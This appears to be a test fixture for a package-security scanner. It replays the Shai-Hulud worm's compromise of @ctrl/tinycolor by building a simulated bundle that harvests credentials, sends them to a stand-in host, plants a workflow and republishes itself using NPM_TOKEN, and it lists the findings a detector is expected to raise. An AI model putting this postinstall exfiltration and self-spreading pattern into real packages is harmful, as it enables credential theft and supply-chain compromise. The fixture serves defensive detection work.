import { bundled } from '../bundled.js'
import { colours } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'
import { collect, plantWorkflow, sendTo, spread } from '../worm.js'

const bundle = bundled(
  {
    12: [collect, 'e.exports = collect;'].join(''),
    31: [sendTo('webhook.example', '/inert'), 'e.exports = send;'].join(''),
    57: [
      "const fs = require('fs');const path = require('path');",
      spread('postinstall', 'node bundle.js'),
      plantWorkflow('shai-hulud-workflow.yml'),
      'e.exports = { spread, plant };',
    ].join(''),
    88: [
      'const found = n(12)();',
      'n(31)(found);',
      'const { spread, plant } = n(57);',
      'plant(process.cwd());',
      'const token = process.env.NPM_TOKEN;',
      'if (token) spread(process.cwd(), token);',
    ].join(''),
  },
  88,
)

const manifest = { type: 'module', main: 'dist/public_api.js' }
const files = { 'dist/public_api.js': colours }
const command = 'node bundle.js'

export const replay = replayUpgrade({
  description:
    'The first Shai-Hulud worm: releases of @ctrl/tinycolor and hundreds of other packages ran a bundle after install that looked for ' +
    'credentials, sent them to a collector, left a workflow behind and published itself onward.',
  date: '2025-09-14',
  reviewedAt: '2025-09-15T12:00:00Z',
  name: '@ctrl/tinycolor',
  from: ['4.1.0', { manifest, files, published: '2024-04-01T12:00:00Z' }],
  to: [
    '4.1.1',
    {
      manifest: { ...manifest, scripts: { postinstall: command } },
      files: { ...files, 'bundle.js': `${bundle}\n` },
      published: '2025-09-14T20:00:00Z',
    },
  ],
  findings: [
    ['release-after-silence', 'medium'],
    ['release-fresh', 'medium'],
    ['install-script-dangerous', 'critical', { file: 'bundle.js', line: bundle }],
    ['secrets-exfiltrated', 'critical', { file: 'bundle.js', line: bundle }],
    ['secrets-harvested', 'critical', { file: 'bundle.js', line: bundle }],
    ['self-propagation', 'critical', { file: 'bundle.js', line: bundle }],
    ['combined-risk', 'critical'],
    ['capability-added', 'high', { file: 'bundle.js', line: bundle }],
    ['install-script-added', 'high', { file: 'package.json' }],
    ['beacon-added', 'medium', { file: 'bundle.js', line: bundle }],
    ['network-host-added', 'medium', { file: 'bundle.js', line: bundle }],
  ],
})
